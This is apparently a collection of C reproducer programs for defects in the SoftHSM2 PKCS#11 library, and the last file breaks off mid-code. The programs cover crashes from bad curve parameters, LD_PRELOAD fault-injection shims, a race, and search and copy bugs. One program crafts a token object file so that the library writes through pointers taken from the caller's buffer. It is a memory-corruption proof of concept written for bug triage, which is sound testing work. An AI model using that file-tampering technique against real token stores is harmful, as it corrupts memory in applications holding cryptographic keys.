#include <unistd.h>
#include <sys/wait.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); fflush(stdout); _exit(2);} }while(0)
static int child(void){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_OBJECT_CLASS cls=CKO_PUBLIC_KEY; CK_KEY_TYPE kt=CKK_EC_EDWARDS; CK_BBOOL F=CK_FALSE,T=CK_TRUE; CK_BYTE params[]={0x13,0x20,'a'}; CK_BYTE point[34]={0x04,0x20};
 CK_ATTRIBUTE t[]={{CKA_CLASS,&cls,sizeof cls},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&F,1},{CKA_PRIVATE,&F,1},{CKA_VERIFY,&T,1},{CKA_EC_PARAMS,params,sizeof params},{CKA_EC_POINT,point,sizeof point}};
 CK_OBJECT_HANDLE hk; CK_RV rv=p->C_CreateObject(s,t,7,&hk); printf("C_CreateObject(EC_EDWARDS public key, CKA_EC_PARAMS = 13 20 61) -> 0x%lx\n",rv); fflush(stdout);
 if(rv==CKR_OK){ CK_MECHANISM m={CKM_EDDSA,NULL,0}; rv=p->C_VerifyInit(s,&m,hk); printf("C_VerifyInit(CKM_EDDSA) -> 0x%lx\n",rv); fflush(stdout);} 
 p->C_Finalize(NULL); return 0; }
int main(){ fflush(stdout); pid_t pid=fork(); if(pid==0){ int r=child(); fflush(stdout); _exit(r);} int st=0; waitpid(pid,&st,0);
 if(WIFSIGNALED(st)){ printf("BROKEN: the library crashed the process (signal %d)\n",WTERMSIG(st)); return 1;} printf("answered with return codes\n"); return WEXITSTATUS(st)?2:0; }
