/* LD_PRELOAD helper for the F17 replay: remove()/unlink() of *.object files fail with EACCES while FAIL_REMOVE=1 is in the environment. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <string.h>
#include <stdlib.h>
static int blocked(const char*p){ const char*e=getenv("FAIL_REMOVE"); size_t n=strlen(p); return e&&*e=='1'&&n>7&&!strcmp(p+n-7,".object")&&!strstr(p,"token.object"); }
int remove(const char*p){ if(blocked(p)){errno=EACCES;return -1;} int(*r)(const char*)=dlsym(RTLD_NEXT,"remove"); return r(p); }
int unlink(const char*p){ if(blocked(p)){errno=EACCES;return -1;} int(*r)(const char*)=dlsym(RTLD_NEXT,"unlink"); return r(p); }
