/* F26: when the very first store of a new object file fails (here: ftruncate fails once, as with a full disk), OSToken::createObject gives up but leaves
 * the freshly created, empty <uuid>.object / <uuid>.lock behind: C_CreateObject returns an error, and after C_Finalize/C_Initialize the token has one object more.
 * Shim (compile with -DSHIM -shared -fPIC): the first ftruncate after the file $F26_ARM appears fails with ENOSPC.
 *   ./replay setup; F26_ARM=/tmp/f26/armed LD_PRELOAD=./f26shim.so ./f26 */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include <unistd.h>
#include <errno.h>
#ifdef SHIM
int ftruncate(int fd, off_t len){ int (*real)(int,off_t)=(int(*)(int,off_t))dlsym(RTLD_NEXT,"ftruncate"); const char*a=getenv("F26_ARM"); if(a && access(a,F_OK)==0){ unlink(a); errno=ENOSPC; return -1;} return real(fd,len); }
#else
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
static CK_ULONG count(CK_SESSION_HANDLE s){ CK_OBJECT_HANDLE h[32]; CK_ULONG n=0; CK(p->C_FindObjectsInit(s,NULL,0)); CK(p->C_FindObjects(s,h,32,&n)); CK(p->C_FindObjectsFinal(s)); return n; }
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_ULONG before=count(s); CK_OBJECT_CLASS dc=CKO_DATA; CK_BBOOL t=CK_TRUE,f=CK_FALSE; CK_ATTRIBUTE tpl[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&t,1},{CKA_PRIVATE,&f,1},{CKA_VALUE,"x",1}};
 FILE*a=fopen(getenv("F26_ARM"),"w"); fclose(a); CK_OBJECT_HANDLE o; CK_RV rv=p->C_CreateObject(s,tpl,4,&o); printf("C_CreateObject with the first ftruncate failing -> 0x%lx\n",rv);
 CK(p->C_Finalize(NULL)); CK(p->C_Initialize(NULL)); CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_ULONG after=count(s); printf("objects before=%lu, after re-initialisation=%lu\n",before,after);
 int bad = rv!=CKR_OK && after!=before; printf("%s\n",bad?"BROKEN: the failed call left an object behind":"consistent"); return bad; }
#endif
