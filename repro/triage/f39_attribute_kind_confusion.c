/*
 * Defect 6 - an object file in which a variable-length attribute (here CKA_LABEL) is stored with the
 * kind "attribute map" makes C_GetAttributeValue treat the caller's plain byte buffer as an array of
 * CK_ATTRIBUTE: it reads pointers out of the buffer content and writes through them.
 *
 *  scenario 1: the application pre-fills its label buffer with blanks (labels are blank padded by
 *              convention) -> the library writes to address 0x2020202020202020 -> SIGSEGV.
 *  scenario 2: the buffer happens to contain an old CK_ATTRIBUTE (recycled memory) -> the library
 *              stores a value taken from the file into a variable that was never passed to the call.
 */
#include "p11util.h"

static void put64(unsigned char *p, unsigned long long v) { for (int i = 7; i >= 0; i--) { p[i] = v & 0xff; v >>= 8; } }

/* replace the record  CKA_LABEL / byte string / "victim"  by  CKA_LABEL / attribute map / { elemType : ULONG elemValue } */
static int patch_object_file(unsigned long long elemType, unsigned long long elemValue)
{
	DIR *d = opendir(p11_token_dir());
	struct dirent *e;
	int done = 0;
	if (!d) return 0;
	while ((e = readdir(d)) != NULL) {
		size_t l = strlen(e->d_name);
		char p[1200];
		if (l < 8 || strcmp(e->d_name + l - 7, ".object") || !strcmp(e->d_name, "token.object")) continue;
		snprintf(p, sizeof(p), "%s/%s", p11_token_dir(), e->d_name);
		FILE *f = fopen(p, "rb");
		if (!f) continue;
		unsigned char buf[8192], out[8300], rec[30], map[56];
		size_t n = fread(buf, 1, sizeof(buf), f);
		fclose(f);
		put64(rec, CKA_LABEL); put64(rec + 8, 3 /* byte string */); put64(rec + 16, 6); memcpy(rec + 24, "victim", 6);
		unsigned char *at = memmem(buf, n, rec, 30);
		if (!at) continue;
		put64(map, CKA_LABEL); put64(map + 8, 4 /* attribute map */); put64(map + 16, 24 /* length of the map body */);
		put64(map + 24, elemType); put64(map + 32, 2 /* unsigned long */); put64(map + 40, elemValue);
		size_t pre = at - buf;
		memcpy(out, buf, pre); memcpy(out + pre, map, 48); memcpy(out + pre + 48, at + 30, n - pre - 30);
		f = fopen(p, "wb");
		if (!f) continue;
		fwrite(out, 1, n + 18, f);
		fclose(f);
		done = 1;
	}
	closedir(d);
	return done;
}

static int setup(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	p11_make_token("defect6");
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_CLASS cls = CKO_DATA; CK_BBOOL t = CK_TRUE, f = CK_FALSE;
	CK_ATTRIBUTE tmpl[] = { { CKA_CLASS, &cls, sizeof(cls) }, { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &f, 1 }, { CKA_LABEL, "victim", 6 }, { CKA_VALUE, "payload", 7 } };
	CK_OBJECT_HANDLE o;
	MUST(F->C_CreateObject(h, tmpl, 5, &o));
	MUST(F->C_Finalize(NULL));
	return 0;
}

static CK_SESSION_HANDLE open_and_find(CK_OBJECT_HANDLE *o)
{
	CK_SESSION_HANDLE h;
	MUST(F->C_Initialize(NULL));
	MUST(F->C_OpenSession(p11_slot(1), CKF_SERIAL_SESSION, NULL, NULL, &h));   /* public read-only session */
	if (p11_find(h, NULL, 0, o, 1) != 1) { SAY("  SETUP FAILURE: object not found\n"); _exit(2); }
	return h;
}

static int scenario_blanks(void *u)
{
	(void) u;
	CK_OBJECT_HANDLE o;
	CK_SESSION_HANDLE h = open_and_find(&o);
	CK_ATTRIBUTE a = { CKA_LABEL, NULL, 0 };
	CK_RV rv = F->C_GetAttributeValue(h, o, &a, 1);
	SAY("  C_GetAttributeValue(CKA_LABEL, pValue=NULL) -> 0x%lx, ulValueLen=%lu\n", rv, a.ulValueLen);
	if (rv != CKR_OK || a.ulValueLen > 4096) return 0;
	char *label = malloc(a.ulValueLen + 1);
	memset(label, ' ', a.ulValueLen);          /* blank padded, as labels usually are */
	a.pValue = label;
	SAY("  C_GetAttributeValue(CKA_LABEL, pValue=<%lu bytes filled with blanks>) ...\n", a.ulValueLen);
	rv = F->C_GetAttributeValue(h, o, &a, 1);
	SAY("  ... returned 0x%lx\n", rv);
	return 0;
}

static volatile CK_ULONG innocent = 0x1111111111111111UL;  /* never passed to the second call */

static int scenario_recycled(void *u)
{
	(void) u;
	CK_OBJECT_HANDLE o;
	CK_SESSION_HANDLE h = open_and_find(&o);
	CK_ATTRIBUTE a = { CKA_LABEL, NULL, 0 };
	CK_RV rv = F->C_GetAttributeValue(h, o, &a, 1);
	if (rv != CKR_OK || a.ulValueLen != sizeof(CK_ATTRIBUTE)) { SAY("  size query -> 0x%lx len %lu\n", rv, a.ulValueLen); return 0; }
	/* the value buffer is a piece of memory that earlier held the template { CKA_CLASS, &innocent, 8 } */
	CK_ATTRIBUTE *old = malloc(sizeof(CK_ATTRIBUTE));
	old->type = CKA_CLASS; old->pValue = (void *) &innocent; old->ulValueLen = sizeof(CK_ULONG);
	a.pValue = old;                              /* used as a 24 byte character buffer for the label */
	SAY("  variable 'innocent' = 0x%lx before; calling C_GetAttributeValue(CKA_LABEL, pValue=<24 byte buffer with stale content>)\n", innocent);
	rv = F->C_GetAttributeValue(h, o, &a, 1);
	SAY("  returned 0x%lx; variable 'innocent' = 0x%lx after\n", rv, innocent);
	return innocent != 0x1111111111111111UL ? 1 : 0;
}

int main(int argc, char **argv)
{
	const char *libdir = argc > 1 ? argv[1] : ".";
	int result = 0, r;
	p11_setup_dirs(libdir);
	p11_load(libdir);
	SAY("Set-up: token with one public CKO_DATA object, CKA_LABEL='victim'.\n");
	if (p11_in_child(setup, NULL)) return 2;

	SAY("\nScenario 1: in the object file the record <CKA_LABEL, byte string, 'victim'> is replaced by\n"
	    "            <CKA_LABEL, attribute map, { 0x2020202020202020 : ULONG 0x4242424242424242 }>\n");
	if (!patch_object_file(0x2020202020202020ULL, 0x4242424242424242ULL)) { SAY("SETUP FAILURE: cannot patch\n"); return 2; }
	r = p11_in_child(scenario_blanks, NULL);
	if (r >= 1000) { SAY("  the process was killed by signal %d inside C_GetAttributeValue\n", r - 1000); result = 1; }
	else if (r) return 2;

	SAY("\nScenario 2: fresh token; the map element is { CKA_CLASS : ULONG 0x4242424242424242 }\n");
	{
		char cmd[1400]; snprintf(cmd, sizeof(cmd), "rm -rf '%s'", g_tokens);
		if (system(cmd)) return 2;
		mkdir(g_tokens, 0700);
	}
	if (p11_in_child(setup, NULL)) return 2;
	if (!patch_object_file(CKA_CLASS, 0x4242424242424242ULL)) { SAY("SETUP FAILURE: cannot patch\n"); return 2; }
	r = p11_in_child(scenario_recycled, NULL);
	if (r == 1) { SAY("  the library wrote a value from the object file through a pointer it found in the content of the value buffer\n"); result = 1; }
	else if (r >= 1000) { SAY("  killed by signal %d\n", r - 1000); result = 1; }
	else if (r) return 2;

	SAY("\nProperty C17: for any byte content of the files in the token directory and any call whose pointer arguments\n"
	    "reference valid memory of the stated sizes, every call returns a PKCS#11 return code; the library never reads or\n"
	    "writes outside valid memory.\n");
	SAY(result ? "DEFECT REPRODUCED\n" : "not reproduced\n");
	return result;
}
