/*
 * Defect 2: an EC key whose CKA_EC_PARAMS name a curve that OpenSSL's EC code
 * does not know (here: the Ed25519 OID 1.3.101.112 on a CKK_EC key - the usual
 * mistake of software written before CKK_EC_EDWARDS existed; any unknown OID,
 * an empty value or garbage behaves the same) is accepted by C_CreateObject, and
 * the first use of the key kills the process with SIGSEGV:
 *
 *   case A: CKO_PUBLIC_KEY  -> C_VerifyInit(CKM_ECDSA)
 *   case B: CKO_PRIVATE_KEY -> C_DeriveKey(CKM_ECDH1_DERIVE, <any peer point>)
 *
 * Expected: C_CreateObject answers CKR_ATTRIBUTE_VALUE_INVALID / CKR_CURVE_NOT_SUPPORTED,
 * or at the latest the *Init / derive call returns an error code.
 *
 * Root cause: src/lib/crypto/OSSLUtil.cpp:104-118, OSSL::byteString2pt() uses its
 * EC_GROUP argument unchecked: EC_POINT_new(NULL) returns NULL and
 * EC_POINT_oct2point(NULL, NULL, ...) dereferences the group.  The group is NULL
 * because OSSLECPublicKey::setEC() (OSSLECPublicKey.cpp:108-115) ignores that
 * OSSL::byteString2grp() could not build a group, and setQ() (line 117-124) then
 * passes EC_KEY_get0_group(eckey) == NULL on.  Reached from
 * SoftHSM::getECPublicKey() (SoftHSM.cpp:12305) <- AsymVerifyInit (5473) and from
 * SoftHSM::getECDHPublicKey() (12435) <- deriveECDH (10851).  The sibling
 * OSSL::pt2ByteString() does have the "grp == NULL" guard.
 * Fix idea: "if (grp == NULL) return NULL;" at the top of byteString2pt(), let
 * getECPublicKey()/getECDHPublicKey() fail when the group or the point could not be
 * built, and reject unusable CKA_EC_PARAMS already in C_CreateObject.
 *
 * Every case runs in a child process (everything, from dlopen on), the parent only
 * looks at how the child ended.
 * usage: repro <dir with libsofthsm2.so>      exit 1 = reproduced, 0 = not
 */
#include "f29_common.h"
#include <sys/wait.h>

static CK_BYTE ed25519_oid[] = { 0x06, 0x03, 0x2b, 0x65, 0x70 };

static int child(const char* libdir, int which)
{
	setup(libdir);
	init_token();
	CK_SESSION_HANDLE s = open_rw(); login_user(s);
	CK_OBJECT_CLASS cPub = CKO_PUBLIC_KEY, cPriv = CKO_PRIVATE_KEY, cSecret = CKO_SECRET_KEY;
	CK_KEY_TYPE kEC = CKK_EC, kGen = CKK_GENERIC_SECRET;
	CK_BYTE point[67] = { 0x04, 0x41, 0x04 }; memset(point + 3, 0x22, 64);   /* DER OCTET STRING with an uncompressed point */
	CK_OBJECT_HANDLE h, d; CK_RV rv;
	if (which == 0) {
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cPub), ATTR(CKA_KEY_TYPE, kEC), { CKA_EC_PARAMS, ed25519_oid, sizeof(ed25519_oid) },
			{ CKA_EC_POINT, point, sizeof(point) }, ATTR(CKA_VERIFY, bTrue) };
		rv = F->C_CreateObject(s, t, NEL(t), &h);
		printf("  C_CreateObject(EC public key, unknown curve) rv=0x%lx\n", rv); fflush(stdout);
		if (rv != CKR_OK) return 0;
		CK_MECHANISM m = { CKM_ECDSA, NULL, 0 };
		rv = F->C_VerifyInit(s, &m, h);
		printf("  C_VerifyInit rv=0x%lx\n", rv); fflush(stdout);
	} else {
		CK_BYTE val[32]; memset(val, 0x33, 32);
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cPriv), ATTR(CKA_KEY_TYPE, kEC), { CKA_EC_PARAMS, ed25519_oid, sizeof(ed25519_oid) },
			{ CKA_VALUE, val, sizeof(val) }, ATTR(CKA_DERIVE, bTrue) };
		rv = F->C_CreateObject(s, t, NEL(t), &h);
		printf("  C_CreateObject(EC private key, unknown curve) rv=0x%lx\n", rv); fflush(stdout);
		if (rv != CKR_OK) return 0;
		CK_ECDH1_DERIVE_PARAMS p = { CKD_NULL, 0, NULL, 65, point + 2 };
		CK_MECHANISM dm = { CKM_ECDH1_DERIVE, &p, sizeof(p) };
		CK_ATTRIBUTE dt[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kGen) };
		rv = F->C_DeriveKey(s, &dm, h, dt, NEL(dt), &d);
		printf("  C_DeriveKey rv=0x%lx\n", rv); fflush(stdout);
	}
	F->C_Finalize(NULL);
	return 0;
}

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir>\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	int reproduced = 0;
	const char* names[] = { "A: public key + C_VerifyInit(CKM_ECDSA)", "B: private key + C_DeriveKey(CKM_ECDH1_DERIVE)" };
	for (int which = 0; which < 2; which++) {
		printf("case %s\n", names[which]);
		char dir[64] = "/tmp/wthC-XXXXXX", cmd[128];
		if (!mkdtemp(dir)) { perror("mkdtemp"); return 2; }
		setenv("WTHC_DIR", dir, 1);
		pid_t pid = fork();
		if (pid == 0) { _exit(child(argv[1], which)); }
		int st = 0; waitpid(pid, &st, 0);
		snprintf(cmd, sizeof(cmd), "rm -rf %s", dir); if (system(cmd)) {}
		if (WIFSIGNALED(st)) { printf("  => child KILLED BY SIGNAL %d inside the library call - DEFECT REPRODUCED\n", WTERMSIG(st)); reproduced = 1; }
		else if (WEXITSTATUS(st) == 0) printf("  => child ended normally\n");
		else if (WEXITSTATUS(st) == 2) { printf("  => set-up problem in the child\n"); return 2; }
		else { printf("  => child process TERMINATED INSIDE the library call with status %d (5 = exit(CKR_GENERAL_ERROR) of the library, 1 = sanitizer abort) - DEFECT REPRODUCED\n", WEXITSTATUS(st)); reproduced = 1; }
	}
	return reproduced;
}
