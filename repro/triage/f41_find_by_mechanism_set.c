/*
 * Defect 4 (C19): C_FindObjectsInit can only compare boolean, CK_ULONG and byte
 * string attributes.  A template entry whose attribute is stored as a mechanism
 * set (CKA_ALLOWED_MECHANISMS) or as an attribute array (CKA_WRAP_TEMPLATE,
 * CKA_UNWRAP_TEMPLATE) never matches - not even with exactly the value that
 * C_GetAttributeValue reports for the object.  The search is not complete.
 */
#include "p11h_e.h"

static int find_by(CK_SESSION_HANDLE s, CK_ATTRIBUTE* a, CK_OBJECT_HANDLE wanted, const char* name)
{
	CK_OBJECT_HANDLE got[32]; CK_ULONG n = 0, i; int found = 0;
	CK_RV rv = F->C_FindObjectsInit(s, a, 1);
	if (rv != CKR_OK) { SAY("    C_FindObjectsInit({%s}) -> 0x%lx", name, rv); return 0; }
	MUST(F->C_FindObjects(s, got, 32, &n));
	MUST(F->C_FindObjectsFinal(s));
	for (i = 0; i < n; i++) if (got[i] == wanted) found = 1;
	SAY("    C_FindObjectsInit({%s = value read back from the object}) + C_FindObjects -> %lu object(s)%s", name, n,
	    found ? ", the key is among them" : "; the key (handle is valid, attribute is equal) is MISSING");
	return found;
}

static int scenario(void)
{
	CK_SLOT_ID slot; CK_SESSION_HANDLE s; CK_OBJECT_HANDLE key;
	CK_MECHANISM gen = { CKM_AES_KEY_GEN, NULL_PTR, 0 };
	CK_BBOOL T = CK_TRUE, Fa = CK_FALSE; CK_ULONG len = 16;
	CK_MECHANISM_TYPE allowed[] = { CKM_AES_ECB, CKM_AES_CBC };
	CK_OBJECT_CLASS sk = CKO_SECRET_KEY; CK_KEY_TYPE kt = CKK_AES;
	CK_ATTRIBUTE wt[] = { { CKA_CLASS, &sk, sizeof(sk) }, { CKA_KEY_TYPE, &kt, sizeof(kt) } };
	CK_ATTRIBUTE t[] = {
		{ CKA_TOKEN, &T, 1 }, { CKA_PRIVATE, &Fa, 1 }, { CKA_VALUE_LEN, &len, sizeof(len) }, { CKA_LABEL, "aes-key", 7 },
		{ CKA_ENCRYPT, &T, 1 }, { CKA_WRAP, &T, 1 },
		{ CKA_ALLOWED_MECHANISMS, allowed, sizeof(allowed) },
		{ CKA_WRAP_TEMPLATE, wt, sizeof(wt) },
	};
	CK_MECHANISM_TYPE back[8]; CK_ATTRIBUTE a = { CKA_ALLOWED_MECHANISMS, back, sizeof(back) };
	CK_ATTRIBUTE lab = { CKA_LABEL, "aes-key", 7 };
	CK_ATTRIBUTE inner[4]; CK_OBJECT_CLASS c2; CK_KEY_TYPE k2; CK_ATTRIBUTE w = { CKA_WRAP_TEMPLATE, NULL_PTR, 0 };
	int okLabel, okMech, okWrap = 1;
	CK_ULONG i;

	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s = open_rw(slot);
	MUST(login_user(s, "userpin1"));
	MUST(F->C_GenerateKey(s, &gen, t, sizeof(t) / sizeof(t[0]), &key));
	SAY("  C_GenerateKey(AES, CKA_ALLOWED_MECHANISMS={CKM_AES_ECB,CKM_AES_CBC}, CKA_WRAP_TEMPLATE={CLASS,KEY_TYPE}) -> handle %lu", key);

	okLabel = find_by(s, &lab, key, "CKA_LABEL");

	MUST(F->C_GetAttributeValue(s, key, &a, 1));
	printf("  C_GetAttributeValue(CKA_ALLOWED_MECHANISMS) -> %lu bytes:", a.ulValueLen);
	for (i = 0; i < a.ulValueLen / sizeof(CK_MECHANISM_TYPE); i++) printf(" 0x%lx", back[i]);
	printf("\n");
	okMech = find_by(s, &a, key, "CKA_ALLOWED_MECHANISMS");

	/* CKA_WRAP_TEMPLATE: read back (two steps), then search with it */
	MUST(F->C_GetAttributeValue(s, key, &w, 1));
	if (w.ulValueLen == 2 * sizeof(CK_ATTRIBUTE))
	{
		memset(inner, 0, sizeof(inner));
		w.pValue = inner;
		MUST(F->C_GetAttributeValue(s, key, &w, 1));      /* fills types and lengths */
		for (i = 0; i < 2; i++) inner[i].pValue = (inner[i].type == CKA_CLASS) ? (void*)&c2 : (void*)&k2;
		MUST(F->C_GetAttributeValue(s, key, &w, 1));
		SAY("  C_GetAttributeValue(CKA_WRAP_TEMPLATE) -> %lu entries", w.ulValueLen / sizeof(CK_ATTRIBUTE));
		okWrap = find_by(s, &w, key, "CKA_WRAP_TEMPLATE");
	}
	else SAY("  (CKA_WRAP_TEMPLATE has unexpected size %lu, skipped)", w.ulValueLen);

	F->C_Finalize(NULL_PTR);
	if (!okLabel) return 2;           /* the control search must work */
	return (!okMech || !okWrap) ? 1 : 0;
}

static int setup(void)
{
	MUST(F->C_Initialize(NULL_PTR));
	new_token("tokA", "sopin123", "userpin1");
	MUST(F->C_Finalize(NULL_PTR));
	return 0;
}

int main(int argc, char** argv)
{
	int r;
	if (argc < 2) SETUP_FAIL("usage: repro <libdir>");
	make_conf();
	load_lib(argv[1]);
	if (run_child(setup, 60) != 0) { rm_rf_dir(); return 2; }
	SAY("Property C19: \"C_FindObjectsInit followed by ... C_FindObjects ... returns ... precisely those objects ... that the session");
	SAY("  may see ... and whose attributes equal every entry of the template\" - an object whose attribute equals the entry must be returned.");
	SAY("");
	r = run_child(scenario, 60);
	rm_rf_dir();
	if (r == 1) { SAY("  => VIOLATION: the object is not found by an attribute value it has"); SAY("DEFECT REPRODUCED"); return 1; }
	if (r == 0) { SAY("not reproduced"); return 0; }
	return 2;
}
