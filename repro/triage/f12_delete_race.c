/* F12: OSToken::deleteObject() looks the object up in the token's `objects` set BEFORE taking tokenMutex, while
 * OSToken::createObject()/index() insert into the same std::set under the mutex.  Two sessions of one application
 * (CKF_OS_LOCKING_OK), one creating token objects, one destroying its own token objects: ThreadSanitizer reports the
 * race on the red-black tree.  Build the library with -fsanitize=thread in a scratch tree; this driver too.
 *   clang -fsanitize=thread -g f12_delete_race.c -I/repo/src/lib/pkcs11 -ldl -lpthread -o f12
 *   SOFTHSM2_CONF=... SOFTHSM_LIB=<tsan lib> ./f12          (token from ./replay setup, user PIN 1234) */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include <pthread.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
static CK_SLOT_ID slot;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
static CK_OBJECT_HANDLE mk(CK_SESSION_HANDLE s, const char* label){
 CK_OBJECT_CLASS dc=CKO_DATA; CK_BBOOL t=CK_TRUE,f=CK_FALSE; CK_BYTE val[16]; memset(val,'A',sizeof val);
 CK_ATTRIBUTE tpl[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&t,1},{CKA_PRIVATE,&f,1},{CKA_VALUE,val,sizeof val},{CKA_LABEL,(void*)label,strlen(label)}};
 CK_OBJECT_HANDLE o; CK(p->C_CreateObject(s,tpl,5,&o)); return o; }
static void* worker(void* arg){
 CK_SESSION_HANDLE s; CK(p->C_OpenSession(slot,CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s));
 for(int i=0;i<60;i++){ CK_OBJECT_HANDLE o=mk(s,(const char*)arg); CK(p->C_DestroyObject(s,o)); }
 CK(p->C_CloseSession(s)); return NULL; }
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p);
 CK_C_INITIALIZE_ARGS ia; memset(&ia,0,sizeof ia); ia.flags=CKF_OS_LOCKING_OK; CK(p->C_Initialize(&ia));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); slot=slots[0];
 CK_SESSION_HANDLE s; CK(p->C_OpenSession(slot,CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 pthread_t a,b; pthread_create(&a,NULL,worker,"A"); pthread_create(&b,NULL,worker,"B"); pthread_join(a,NULL); pthread_join(b,NULL);
 CK(p->C_Finalize(NULL)); puts("done"); return 0; }
