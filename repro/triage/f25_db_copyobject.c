/* F25: DBObject::nextAttributeType() is a stub (always CKA_CLASS), so under objectstore.backend=db C_CopyObject copies only CKA_CLASS from the source:
 * the copy of a token key has lost its label, id, value ... (CKR_OK is returned); under backend=file the copy is complete.
 * Needs a library built with -DWITH_OBJECTSTORE_BACKEND_DB=ON.   ./f25 <lib.so> init ; ./f25 <lib.so> copy */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p; static CK_BBOOL T=CK_TRUE,F_=CK_FALSE;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
int main(int argc,char**argv){ void*h=dlopen(argv[1],RTLD_NOW); if(!h){puts(dlerror());return 2;} CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p);
 CK(p->C_Initialize(NULL)); CK_ULONG n=8; CK_SLOT_ID s[8]; CK(p->C_GetSlotList(CK_FALSE,s,&n));
 if(!strcmp(argv[2],"init")){ CK_UTF8CHAR label[32]; memset(label,' ',32); memcpy(label,"f25",3); CK(p->C_InitToken(s[0],(CK_UTF8CHAR_PTR)"12345678",8,label)); CK_SESSION_HANDLE hs; CK(p->C_OpenSession(s[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&hs)); CK(p->C_Login(hs,CKU_SO,(CK_UTF8CHAR_PTR)"12345678",8)); CK(p->C_InitPIN(hs,(CK_UTF8CHAR_PTR)"1234",4)); puts("token ready"); return 0; }
 n=8; CK(p->C_GetSlotList(CK_TRUE,s,&n)); CK_SESSION_HANDLE hs; CK(p->C_OpenSession(s[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&hs)); CK(p->C_Login(hs,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_OBJECT_CLASS dc=CKO_DATA; CK_ATTRIBUTE d[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&T,1},{CKA_PRIVATE,&F_,1},{CKA_LABEL,"original",8},{CKA_APPLICATION,"app",3},{CKA_VALUE,"payload!",8}};
 CK_OBJECT_HANDLE o,c; CK(p->C_CreateObject(hs,d,6,&o));
 CK_ATTRIBUTE ct[]={{CKA_TOKEN,&T,1}}; CK_RV rv=p->C_CopyObject(hs,o,ct,1,&c); printf("C_CopyObject -> 0x%lx\n",rv); if(rv!=CKR_OK) return 1;
 char lab[32]={0},val[32]={0}; CK_ATTRIBUTE ga[]={{CKA_LABEL,lab,31},{CKA_VALUE,val,31}}; rv=p->C_GetAttributeValue(hs,c,ga,2);
 printf("copy: C_GetAttributeValue -> 0x%lx  CKA_LABEL='%s' (len %ld)  CKA_VALUE='%s' (len %ld)\n",rv,lab,(long)ga[0].ulValueLen,val,(long)ga[1].ulValueLen);
 int bad = !(ga[0].ulValueLen==8 && !memcmp(lab,"original",8) && ga[1].ulValueLen==8 && !memcmp(val,"payload!",8));
